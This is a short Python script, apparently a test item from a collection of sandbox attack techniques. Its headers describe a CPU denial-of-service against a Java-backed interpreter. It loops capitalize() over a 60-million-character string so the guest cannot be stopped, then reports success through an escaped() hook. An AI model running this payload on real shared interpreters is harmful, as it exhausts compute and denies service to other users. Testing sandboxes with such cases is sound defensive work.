# technique: capitalize() of a long text: one pass of Java's, which was not asked for its size as those of lower() and upper() are
# source: own
# goal: seconds in which nothing stops the guest
# impact: dos
# dos: cpu
# needs: soft-limit
text = '\u0130' * 60_000_000
while True:
    try:
        text.capitalize()
        escaped('a text of this size has its case changed in one pass')
    except MemoryError:
        pass
